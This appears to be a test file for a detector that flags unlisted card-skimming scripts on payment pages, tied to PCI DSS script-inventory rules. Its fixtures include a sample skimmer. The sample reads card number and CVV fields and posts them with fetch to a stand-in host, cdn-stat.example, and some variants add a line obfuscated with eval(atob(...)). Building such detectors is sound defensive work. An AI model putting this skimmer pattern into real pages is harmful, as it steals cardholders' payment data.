/** Scripts that an inventory of the payment page's scripts does not have (PCI DSS 4.0.1 requirement 6.4.3). */
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { claims, triageFiles } from './bundle.ts';

const sum = (text: string): string => createHash('sha256').update(text).digest('hex');
const form =
  "function pay() {\n  document.forms[0].submit();\n}\nvar a = 1; let b = 2; window.addEventListener('load', pay);\n";
const inventory = (more = ''): string => `scripts:\n  - {path: /js/form.js, sha256: ${sum(form)}, owner: pay}\n${more}`;
const sends = (host: string, hidden = ''): string =>
  `\nvar n = document.querySelector('#card-number').value;\nlet cvv = document.querySelector('#cvv').value;${hidden}\nfetch('https://${host}/t', { method: 'POST', body: JSON.stringify({ n, cvv }) });\nwindow.addEventListener('load', function () {});\n`;
const HIDDEN = "\nvar k = eval(atob('YWxlcnQoMSk='));";
const page = (code: string): string =>
  `<!doctype html>\n<html><body>\n<script type="application/ld+json">{"url":"https://x.example"}</script>\n<script>${code}</script>\n</body></html>\n`;

const skimmer = async (files: { [name: string]: string }) => {
  const report = await triageFiles({ 'meta/now': '2026-11-22T09:00:00Z\n', 'js/form.js': form, ...files });
  return {
    finding: report.findings.find(({ id }) => id === 'attacks/web-skimmer'),
    accused: claims(report).includes('web-skimmer'),
  };
};

describe('a script that no inventory lists', () => {
  it('is a skimmer where it hides and sends cards abroad', async () => {
    const { finding, accused } = await skimmer({
      'inventory.yaml': inventory(),
      'js/stat.js': sends('cdn-stat.example', HIDDEN),
    });
    expect(finding?.title).toBe(
      'js/stat.js sends card data to cdn-stat.example and is not in the inventory of scripts',
    );
    expect(accused).toBe(true);
  });
  it('is told but not accused where it may be the form of a provider', async () => {
    const { finding, accused } = await skimmer({ 'inventory.yaml': inventory(), 'js/sdk.js': sends('psp.example') });
    expect(finding?.confidence).toBe(0.45);
    expect(accused).toBe(false);
  });
  it('within a page is told with its line', async () => {
    const { finding } = await skimmer({
      'inventory.yaml': inventory(),
      'checkout.html': page(sends('cdn-stat.example', HIDDEN)),
    });
    expect(finding?.title).toContain('checkout.html sends card data to cdn-stat.example');
    expect(finding?.evidence[0]).toMatchObject({ file: 'checkout.html', line: 7 });
  });
  it("is nothing to tell where there is no inventory, or it sends nothing abroad, or the page's sum is listed", async () => {
    const inline = sends('psp.example', HIDDEN);
    expect((await skimmer({ 'js/stat.js': sends('cdn-stat.example', HIDDEN) })).finding).toBeUndefined();
    expect(
      (await skimmer({ 'inventory.yaml': inventory(), 'js/menu.js': form.replace('pay', 'menu') })).finding,
    ).toBeUndefined();
    expect(
      (
        await skimmer({
          'inventory.yaml': inventory(`  - {path: /checkout, sha256: ${sum(inline)}, owner: pay}\n`),
          'checkout.html': page(inline),
        })
      ).finding,
    ).toBeUndefined();
  });
});
